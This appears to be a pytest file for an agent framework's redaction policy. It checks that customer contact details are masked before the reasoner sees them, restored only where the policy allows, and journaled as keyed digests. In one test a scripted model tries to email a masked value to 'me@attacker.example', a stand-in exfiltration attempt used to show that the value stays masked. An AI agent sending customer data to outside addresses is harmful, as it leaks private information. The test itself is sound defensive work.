"""Redaction in the demo world: contact details masked before the reasoner sees them,
given back only where the charter allows, journaled as digests."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from charter import Journal, Runner, load_agent
from charter.demo.world import connect, create_world, default_world_path
from charter.journal import load_or_create_signer
from charter.policy._redact import PLACEHOLDER
from charter.reasoners import RunContext, ToolCall
from charter.testing import ScriptedReasoner, call, respond

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "redact.agent.yaml"
TICKET = 900
PHONE = "+1 415 555 0134"


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CHARTER_HOME", str(tmp_path))
    path = create_world(default_world_path())
    with connect(path) as conn:
        conn.execute(
            "INSERT INTO tickets VALUES (?, 17, 'Call me', ?, 'open', '2026-11-20T10:00:00Z')",
            (TICKET, f"My chair is broken. Call me at {PHONE} or write to maya@home.example."),
        )
    return path


@pytest.fixture
def journal(tmp_path: Path) -> Journal:
    return Journal(f"sqlite:///{tmp_path / 'j.db'}", load_or_create_signer(tmp_path / "k.pem"))


def _email_of(world: Path, customer_id: int) -> str:
    with connect(world) as conn:
        row = conn.execute("SELECT email FROM customers WHERE id = ?", (customer_id,)).fetchone()
    return str(row[0])


def _replies(world: Path, ticket_id: int) -> list[str]:
    with connect(world) as conn:
        rows = conn.execute(
            "SELECT body FROM ticket_replies WHERE ticket_id = ? ORDER BY id", (ticket_id,)
        ).fetchall()
    return [str(r[0]) for r in rows]


def _journal_text(journal: Journal, run_id: str) -> str:
    return json.dumps([r.payload for r in journal.records(run_id)])


def _seen(context: RunContext) -> str:
    return " ".join(t.observation.render() for t in context.turns)


def test_the_example_masks_contact_details_and_the_reply_reaches_the_customer(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)
    email = _email_of(world, 17)

    run = Runner(journal).run(agent, f"Answer ticket {TICKET}")

    assert run.status == "completed", run.error
    seen = " ".join(s.observation.render() for s in run.steps if s.observation is not None)
    assert email not in seen and PHONE not in seen and "maya@home.example" not in seen
    assert "[redacted:email#" in seen and "[redacted:phone#" in seen
    # The reply names the ticket by id, and carries the real address given back by charter.
    assert _replies(world, TICKET) == [
        f"Hello Maya Okafor, we are on it; a confirmation goes to {email}."
    ]
    assert run.answer is not None and email not in run.answer and "[redacted:email#" in run.answer
    text = _journal_text(journal, run.run_id)
    assert email not in text and PHONE not in text and "maya@home.example" not in text
    assert journal.verify().ok


def test_the_journal_keeps_a_keyed_digest_of_each_masked_value_and_which_rule(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)
    runner = Runner(journal)
    email = _email_of(world, 17)

    run = runner.run(agent, f"Answer ticket {TICKET}")

    effects = [r.payload for r in journal.records(run.run_id) if r.kind == "step.effect"]
    masked = [m for p in effects for m in p.get("redacted", [])]
    assert {(m["rule"], m["kind"]) for m in masked} == {
        ("contact-in-text", "phone"),
        ("contact-in-text", "email"),
        ("customer-record", "email"),
    }
    vault = runner.governor.redactions.of(run.run_id)
    record = next(m for m in masked if m["rule"] == "customer-record")
    assert record["digest"] == vault.digest(email) and record["path"] == "email"
    assert PLACEHOLDER.fullmatch(record["placeholder"])
    # A plain SHA-256 of the value (what someone could compute by guessing) is not it.
    assert hashlib.sha256(email.encode()).hexdigest() != record["digest"]
    decided = [r.payload for r in journal.records(run.run_id) if r.kind == "step.decided"]
    restored = [x for p in decided for x in p.get("restored", [])]
    assert restored == [
        {
            "rule": "customer-record",
            "arg": "body",
            "placeholder": record["placeholder"],
            "digest": record["digest"],
            "label": {"trust": "trusted", "confidentiality": "pii"},
        }
    ]


def test_a_tool_asked_to_echo_a_placeholder_echoes_the_placeholder(
    world: Path, journal: Journal
) -> None:
    agent = load_agent(EXAMPLE)

    def echo(context: RunContext) -> ToolCall:  # the model asks a tool to echo the value
        placeholder = PLACEHOLDER.search(_seen(context))
        assert placeholder is not None
        return call("send_email", to="me@attacker.example", subject="x", body=placeholder.group())

    agent.reasoner = ScriptedReasoner(
        [call("lookup_customer", customer_id=17), echo, respond("done")]
    )
    email = _email_of(world, 17)

    run = Runner(journal).run(agent, "Check customer 17")

    with connect(world) as conn:
        sent = conn.execute("SELECT body FROM email_outbox ORDER BY id DESC").fetchone()
    assert sent is not None and PLACEHOLDER.fullmatch(sent[0])  # not restored: not allowed
    assert email not in _journal_text(journal, run.run_id)
